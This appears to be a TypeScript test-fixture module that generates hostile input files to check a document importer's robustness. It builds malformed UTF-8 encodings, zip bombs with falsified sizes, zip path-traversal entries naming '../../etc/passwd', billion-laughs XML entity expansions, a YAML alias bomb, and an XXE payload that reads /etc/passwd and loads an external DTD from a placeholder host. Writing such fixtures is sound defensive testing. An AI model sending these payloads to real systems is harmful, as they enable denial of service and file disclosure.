/** Bytes that are no text, or far more of it than they seem: broken encodings, archives and entities that swell. */
import { zipSync } from "fflate";
import type { HostileFile } from "./hostile-file.ts";

const latin = (text: string): Uint8Array => Uint8Array.from(text, (sign) => sign.charCodeAt(0));
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const HEAD = "# Path\n\nFirst learn Python, then NumPy ";

/** Noise that is the same every time (a linear congruential generator, Knuth's constants). */
function noise(length: number): Uint8Array {
  let seed = 1;
  return Uint8Array.from({ length }, () => ((seed = (Math.imul(seed, 1664525) + 1013904223) >>> 0) >>> 24));
}

/** The archive with the sizes that its index declares made smaller than they are. */
function lying(archive: Uint8Array): Uint8Array {
  const copy = archive.slice();
  for (let at = 0; at < copy.length - 4; at++) if (copy[at] === 0x50 && copy[at + 1] === 0x4b && copy[at + 2] === 1 && copy[at + 3] === 2) copy.set([9, 0, 0, 0], at + 24);
  return copy;
}

/** The archive with an entry called "__proto__", which no packer would write. */
function renamed(archive: Uint8Array): Uint8Array {
  return archive.map((byte, at) => (byte === 0x23 && (archive[at - 1] === 0x23 || archive[at + 1] === 0x23) ? 0x5f : byte));
}

const bomb = (): Uint8Array => zipSync({ "a.md": new Uint8Array(120_000_000) }, { level: 9 });
const within = (times: number): Uint8Array => Array.from({ length: times }).reduce<Uint8Array>((inner) => zipSync({ "a.zip": inner }), zipSync({ "a.md": utf8(HEAD) }));
const laughs = (root: string, inside: string): string => `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY a0 "ha">${Array.from({ length: 30 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`).join("")}]>${inside}`;

const ALL: readonly (readonly [string, () => string | Uint8Array])[] = [
  ["overlong.md", () => latin(`${HEAD}\xc0\xaf\xe0\x80\xaf\xf0\x80\x80\xaf`)],
  ["cut.md", () => latin(`${HEAD}\xe5\xad`)],
  ["surrogates.md", () => latin(`${HEAD}\xed\xa0\x80\xed\xb0\x80`)],
  ["beyond.md", () => latin(`${HEAD}\xf4\x90\x80\x80\xff\xfe`)],
  ["continuations.md", () => latin(HEAD + "\x80\xbf".repeat(50_000))],
  ["odd-utf16.md", () => latin("\xff\xfe#\0 \0P\0a")],
  ["utf32.md", () => latin("\xff\xfe\0\0#\0\0\0 \0\0\0P\0\0\0")],
  ["zeros.md", () => new Uint8Array(1_000_000)],
  ["noise.md", () => noise(1_000_000)],
  ["noise.zip", () => new Uint8Array([0x50, 0x4b, 3, 4, ...noise(100_000)])],
  ["empty.md", () => new Uint8Array(0)],
  ["only-mark.md", () => latin("\xef\xbb\xbf")],
  ["bomb.zip", bomb],
  ["lying-bomb.zip", () => lying(bomb())],
  ["many.zip", () => zipSync(Object.fromEntries(Array.from({ length: 6000 }, (_, at) => [`${at}.md`, utf8("a")])))],
  ["nested.zip", () => within(6)],
  ["paths.zip", () => zipSync({ "../../etc/passwd": utf8(HEAD), "/root.md": utf8(HEAD), "C:\\a.md": utf8(HEAD), __proto__x: utf8(HEAD), constructor: utf8(HEAD), "a\u0000.md": utf8(HEAD), "\u202egpj.md": utf8(HEAD) })],
  ["proto.zip", () => renamed(zipSync({ "##proto##": utf8(HEAD), toString: utf8(HEAD) }))],
  ["cut.zip", () => zipSync({ "a.md": utf8(HEAD) }).subarray(0, 60)],
  ["laughs.graphml", () => laughs("graphml", '<graphml><graph><node id="n">&a30;</node><node id="&a30;"/></graph></graphml>')],
  ["laughs.opml", () => laughs("opml", '<opml><body><outline text="&a30;"/></body></opml>')],
  ["laughs.mm", () => laughs("map", '<map><node TEXT="&a30;"/></map>')],
  ["laughs.gexf", () => laughs("gexf", '<gexf><graph><nodes><node id="a" label="&a30;"/></nodes></graph></gexf>')],
  ["outside.opml", () => '<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "https://elsewhere.example/x.dtd">%y;]><opml><body><outline text="&x;"/></body></opml>'],
  ["aliases.md", () => `---\na: &a [x, x]\n${Array.from({ length: 25 }, (_, at) => `${"bcdefghijklmnopqrstuvwxyz"[at]}: &${"bcdefghijklmnopqrstuvwxyz"[at]} [*${"abcdefghijklmnopqrstuvwxy"[at]}, *${"abcdefghijklmnopqrstuvwxy"[at]}, *${"abcdefghijklmnopqrstuvwxy"[at]}]\n`).join("")}title: *z\n---\n# Path\n\nFirst learn Python, then NumPy.\n`],
];

export const BYTES: readonly HostileFile[] = ALL.map(([name, make]) => ({ name, family: "bytes", make }));
